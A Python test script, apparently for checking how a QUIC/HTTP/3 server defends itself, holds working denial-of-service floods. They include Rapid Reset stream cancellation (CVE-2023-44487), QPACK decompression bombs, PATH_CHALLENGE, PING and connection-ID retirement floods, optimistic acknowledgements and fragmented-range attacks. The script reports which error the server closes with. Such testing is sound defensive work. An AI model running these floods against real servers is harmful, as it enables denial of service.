"""Does too much of something that QUIC and HTTP/3 allow, and prints how the server ends it.

    floods.py ADDRESS:PORT AUTHORITY NAME

One line of JSON: the name of the error with which the server closed the connection (or null), what
was sent, and how many responses came. The server must have large files big.bin and huge.bin, and read
the body of a POST of /read without answering it.
"""

import asyncio
import json
import logging
import ssl
import sys
import time

import pylsqpack
from aioquic.asyncio.protocol import QuicConnectionProtocol
from aioquic.buffer import encode_uint_var
from aioquic.quic.configuration import QuicConfiguration
from aioquic.quic.connection import QuicConnection
from aioquic.quic.events import ConnectionTerminated, HandshakeCompleted, StreamDataReceived
from aioquic.quic.rangeset import RangeSet

from faults_case import APPLICATION, ERRORS

HANDSHAKE_S = 20
# How long one flood goes on if nobody ends it, and how much it sends at most.
FLOOD_S = 6
MOST = 20_000
# The client's unidirectional streams.
CONTROL, ENCODER = 2, 6


class Connection(QuicConnection):
    """A connection that says how the server ended it, and can send any frames."""

    closed_by_server = False
    # A packet with the first bytes of a stream is being taken in.
    has_first_bytes = False

    def _handle_stream_frame(self, context, frame_type, buf):
        at = buf.tell()
        is_response = buf.pull_uint_var() % 4 == 0
        offset = buf.pull_uint_var() if frame_type & 4 else 0
        if is_response and offset == 0:
            self.has_first_bytes = True
        buf.seek(at)
        super()._handle_stream_frame(context, frame_type, buf)

    def _handle_connection_close_frame(self, context, frame_type, buf):
        self.closed_by_server = True
        super()._handle_connection_close_frame(context, frame_type, buf)

    def packet(self, payload, skip=0):
        """A packet with these frames, whose number is so much larger than the next one."""
        from aioquic.tls import Epoch

        pair = self._cryptos[Epoch.ONE_RTT]
        self._packet_number += skip
        number = self._packet_number
        self._packet_number += 1
        head = bytes([0x43 | pair.key_phase << 2]) + self._peer_cid.cid
        return pair.encrypt_packet(head + number.to_bytes(4, "big"), payload, number)


class LateRanges(RangeSet):
    """Packets to be acknowledged: one with the first bytes of a stream when the next one comes that
    has them too, so when it is lost for the server."""

    def __init__(self, connection, ranges):
        self.connection = connection
        self.withheld = None
        super().__init__(ranges)

    def add(self, start, stop=None):
        if self.connection.has_first_bytes:
            self.connection.has_first_bytes = False
            if self.withheld is not None:
                super().add(*self.withheld)
            self.withheld = start, stop
            return
        super().add(start, stop)


class Client(QuicConnectionProtocol):
    def __init__(self, quic):
        super().__init__(quic)
        self.ready = asyncio.get_running_loop().create_future()
        self.ended = asyncio.get_running_loop().create_future()
        self.responses = self.received = 0

    def quic_event_received(self, event):
        if isinstance(event, HandshakeCompleted) and not self.ready.done():
            self.ready.set_result(None)
        elif isinstance(event, ConnectionTerminated):
            for future in (self.ready, self.ended):
                if not future.done():
                    future.set_result(None)
            self.code = event.error_code
            self.application = event.frame_type is None
        elif isinstance(event, StreamDataReceived) and event.stream_id % 4 == 0:
            self.received += len(event.data)
            self.responses += event.end_stream


def frame(kind, payload=b""):
    return encode_uint_var(kind) + encode_uint_var(len(payload)) + payload


def head(path, method="GET", more=()):
    fields = [(":method", method), (":scheme", "https"), (":path", path), (":authority", "localhost"), *more]
    fields = [(name.encode(), value.encode()) for name, value in fields]
    encoder = pylsqpack.Encoder()
    return frame(1, encoder.encode(0, fields)[1])


class Flood:
    """Each method that is no helper is a flood; it yields after each round."""

    def __init__(self, client, server):
        self.client, self.quic, self.server = client, client._quic, server
        self.sent = 0
        self.streams = 0

    def stream(self):
        self.streams += 1
        return 4 * (self.streams - 1)

    def packet(self, payload, skip=0):
        self.sent += 1
        self.client._transport.sendto(self.quic.packet(payload, skip), self.server)

    def may_open(self):
        return self.streams < self.quic._remote_max_streams_bidi

    def resets(self):
        """CVE-2023-44487 and CVE-2024-27316: requests that are taken back at once."""
        while True:
            for _ in range(20):
                if not self.may_open():
                    break
                stream = self.stream()
                self.quic.send_stream_data(stream, head("/big.bin"))
                self.client.transmit()
                self.quic.reset_stream(stream, 0x10C)
                self.quic.stop_stream(stream, 0x10C)
                self.sent += 1
            yield

    def stopped_first(self):
        """Requests whose responses are not wanted before the requests have come."""
        while True:
            for _ in range(5):
                if not self.may_open():
                    break
                stream, request = self.stream(), head("/read", "POST")
                self.quic.send_stream_data(stream, request[:1])
                self.client.transmit()
                self.quic.stop_stream(stream, 0x10C)
                self.client.transmit()
                self.quic.send_stream_data(stream, request[1:] + frame(0, b"x"), True)
                self.client.transmit()
                self.sent += 1
            yield

    def half_heads(self):
        """Streams that are reset in the middle of the head, and a request behind them."""
        while self.sent < 200:
            if self.may_open():
                stream = self.stream()
                self.quic.send_stream_data(stream, head("/a.txt")[:10])
                self.client.transmit()
                self.quic.reset_stream(stream, 0x10C)
                self.sent += 1
            yield
        while not self.may_open():
            yield
        self.quic.send_stream_data(self.stream(), head("/a.txt"), True)
        while self.client.responses == 0:
            yield

    def empty_data(self):
        self.quic.send_stream_data(self.stream(), head("/read", "POST"))
        while True:
            self.quic.send_stream_data(0, frame(0) * 50)
            self.sent += 50
            yield

    def unknown_frames(self):
        while True:
            self.quic.send_stream_data(CONTROL, frame(0x21 + 0x1F * 5, b"x") * 50)
            self.sent += 50
            yield

    def priorities(self):
        while True:
            self.quic.send_stream_data(CONTROL, frame(0xF0700, b"\0u=1") * 50)
            self.sent += 50
            yield

    def one_way_streams(self):
        number = 3
        while True:
            for _ in range(4):
                if number >= self.quic._remote_max_streams_uni:
                    break
                # Of a type that nobody knows (RFC 9114 section 6.2.3).
                self.quic.send_stream_data(2 + 4 * number, encode_uint_var(0x21 + 0x1F * 7), True)
                number += 1
                self.sent += 1
            yield

    def bombs(self):
        """One entry of the table, which a request names as often as it likes (RFC 9204 section
        7.3)."""
        value = b"x" * 3900
        insert = b"\x3f\xe1\x1f" + b"\x41a" + b"\x7f" + encode_prefixed(len(value), 7) + value
        self.quic.send_stream_data(ENCODER, insert)
        section = b"\x02\x00\xd1\xd7\xc1\x50\x09localhost" + b"\x80" * 4000
        while True:
            for _ in range(5):
                if self.may_open():
                    self.quic.send_stream_data(self.stream(), frame(1, section), True)
                    self.sent += 1
            yield

    def challenges(self):
        while True:
            for _ in range(20):
                payload = b"".join(b"\x1a" + self.sent.to_bytes(4, "big") + bytes([i] * 4) for i in range(120))
                self.packet(payload)
            yield

    def pings(self):
        while True:
            for _ in range(50):
                self.packet(b"\x01" + bytes(20))
            yield

    def connection_ids(self):
        """Each asks for the one before to be retired, which has to be answered (RFC 9000 section
        19.15)."""
        number = 10
        while True:
            for _ in range(20):
                payload = b""
                for _ in range(20):
                    number += 1
                    identifier = number.to_bytes(8, "big")
                    payload += b"\x18" + encode_uint_var(number) + encode_uint_var(number) + b"\x08" + identifier + identifier * 2
                self.packet(payload)
            yield

    def crypto(self):
        """The handshake goes on without an end, and with a gap (RFC 9000 section 7.5)."""
        offset = 10
        while True:
            for _ in range(20):
                self.packet(b"\x06" + encode_uint_var(offset) + encode_uint_var(1000) + bytes(1000))
                offset += 1000
            yield

    def optimistic(self):
        """Packets are acknowledged that were not sent yet (RFC 9000 section 21.4)."""
        self.quic.send_stream_data(self.stream(), head("/big.bin"), True)
        self.client.transmit()
        largest = 100
        while True:
            yield
            largest += 10_000
            self.packet(b"\x02" + encode_uint_var(largest) + b"\0\0" + encode_uint_var(largest))

    def gaps(self):
        """Every other packet number is used, so that acknowledgements become long."""
        while True:
            for _ in range(50):
                self.packet(b"\x01" + bytes(20), skip=1)
            yield

    def fragments(self):
        """Single bytes of a body with gaps between them: a list of ranges (RFC 9000 section 21.6)."""
        self.quic.send_stream_data(self.stream(), head("/read", "POST"))
        self.client.transmit()
        offset = 1000
        while True:
            for _ in range(20):
                payload = b""
                for _ in range(100):
                    offset += 2
                    payload += b"\x0e\x00" + encode_uint_var(offset) + b"\x01x"
                if offset > 60_000:
                    offset = 1001
                self.packet(payload)
            yield

    def unread(self):
        """Large answers to many requests, of which nothing is read after a little."""
        while True:
            if self.may_open():
                self.quic.send_stream_data(self.stream(), head("/big.bin"), True)
                self.sent += 1
            yield


    def withheld(self):
        """A long answer of which all but the first bytes is acknowledged; and those so late that
        they are on their way once more."""
        from aioquic.tls import Epoch

        space = self.quic._spaces[Epoch.ONE_RTT]
        space.ack_queue = LateRanges(self.quic, list(space.ack_queue))
        self.quic.send_stream_data(self.stream(), head("/huge.bin"), True)
        while True:
            self.sent = self.client.received >> 20
            yield


def encode_prefixed(value, bits):
    """What follows a prefix that is full (RFC 9204 section 4.1.1)."""
    value -= (1 << bits) - 1
    out = b""
    while value >= 128:
        out += bytes([value % 128 | 128])
        value //= 128
    return out + bytes([value])


def name_of(client):
    if not client._quic.closed_by_server:
        return None
    names = APPLICATION if client.application else ERRORS
    return names.get(client.code, hex(client.code))


async def main(address, authority, name):
    host, port = address.rsplit(":", 1)
    server = (host, int(port))
    window = {"unread": 20_000, "withheld": 1 << 40}.get(name, 1 << 24)
    configuration = QuicConfiguration(
        alpn_protocols=["h3"],
        server_name="localhost",
        cafile=authority,
        verify_mode=ssl.CERT_REQUIRED,
        max_data=window,
        max_stream_data=window,
    )
    client = Client(Connection(configuration=configuration))
    if name == "unread":
        client._quic._write_connection_limits = lambda builder, space: None
        client._quic._write_stream_limits = lambda builder, space, stream: None
    loop = asyncio.get_running_loop()
    await loop.create_datagram_endpoint(lambda: client, local_addr=("0.0.0.0", 0))
    client.connect(server)
    await asyncio.wait_for(client.ready, HANDSHAKE_S)
    for _ in range(200):
        if client._quic._handshake_confirmed:
            break
        await asyncio.sleep(0.01)
    client._quic.send_stream_data(CONTROL, b"\0" + frame(4))
    client._quic.send_stream_data(ENCODER, b"\x02")
    client.transmit()
    flood = Flood(client, server)
    end = time.monotonic() + FLOOD_S
    for _ in getattr(flood, name)():
        client.transmit()
        await asyncio.wait([client.ended], timeout=0.002)
        if client.ended.done() or time.monotonic() > end or flood.sent > MOST:
            break
    # The close may be on its way.
    await asyncio.wait([client.ended], timeout=1)
    closed = name_of(client) if client.ended.done() else None
    client.close()
    client._transport.close()
    print(json.dumps({"closed": closed, "sent": flood.sent, "responses": client.responses, "received": client.received}))


if __name__ == "__main__":
    logging.disable(logging.CRITICAL)
    asyncio.run(main(*sys.argv[1:]))
